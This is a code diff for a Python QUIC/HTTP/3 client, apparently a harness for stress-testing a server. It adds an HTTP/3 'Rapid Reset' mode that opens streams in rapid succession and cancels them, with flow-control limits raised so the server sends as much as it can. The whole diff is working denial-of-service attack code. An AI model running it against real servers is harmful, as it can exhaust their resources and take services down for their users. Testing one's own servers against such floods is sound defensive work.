@@ -76,6 +76,12 @@ GET = bytes([0x00, 0x00, 0xC0 | 17, 0xC0 | 23, 0xC0 | 1, 0x50, 0x01]) + b"x"
 H3_REQUEST_CANCELLED = 0x10C
 
 
+def get_head(path):
+    # As GET, with :path a literal with a static name reference (0101 N=0, index 1).
+    p = path.encode()
+    return bytes([0x00, 0x00, 0xC0 | 17, 0xC0 | 23, 0x51, len(p)]) + p + bytes([0x50, 0x01]) + b"x"
+
+
 def post_head(length):
     # :method POST (static 20), :scheme https (23), :path / (1), :authority "x", then
     # content-length as a literal with a static name reference (index 4).
@@ -164,14 +170,17 @@ class Client(QuicConnectionProtocol):
             await asyncio.sleep(0.002)
         return True
 
-    async def cancel(self, n):
+    async def cancel(self, n, path=None):
+        # With a path: Rapid Reset, each request whole (FIN) in a datagram of its own and
+        # cancelled by the next two, answered or not meanwhile.
         q = self._quic
         self.control()
+        head = get_head(path) if path else GET
         for i in range(n):
             sid = q.get_next_available_stream_id()
             if not await self.credit(sid, time.monotonic() + 10):
                 return f"stuck after {i}"
-            q.send_stream_data(sid, frame(0x1, GET))
+            q.send_stream_data(sid, frame(0x1, head), end_stream=path is not None)
             self.transmit()
             first, second = (q.stop_stream, q.reset_stream)
             if i % 2:
@@ -247,9 +256,16 @@ async def hold(host, port, idle, conns, streams):
 async def hostile(host, port, mode):
     cfg = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN)
     cfg.verify_mode = ssl.CERT_NONE
+    if mode.startswith("cancel ") and len(mode.split()) > 2:
+        # Rapid Reset's client lets the server send as much as it likes: 2 MiB a stream,
+        # 1 GiB in all (aioquic's defaults, 1 MiB in all, would bound it for the server).
+        cfg.max_data = 1 << 30
+        cfg.max_stream_data = 1 << 21
     async with connect(host, port, configuration=cfg, create_protocol=Client) as c:
         if mode.startswith("cancel "):
-            print(await c.cancel(int(mode.split()[1])), flush=True)
+            words = mode.split()
+            path = words[2] if len(words) > 2 else None
+            print(await c.cancel(int(words[1]), path), flush=True)
             return
         c.go(mode)
         try:
@@ -282,7 +298,7 @@ if __name__ == "__main__":
     if mode == "initials":
         initials(host, port, int(sys.argv[4]))
     elif mode == "cancel":
-        asyncio.run(hostile(host, port, f"cancel {sys.argv[4]}"))
+        asyncio.run(hostile(host, port, " ".join(["cancel"] + sys.argv[4:])))
     elif mode == "hold":
         asyncio.run(hold(host, port, *map(int, sys.argv[4:7])))
     else:
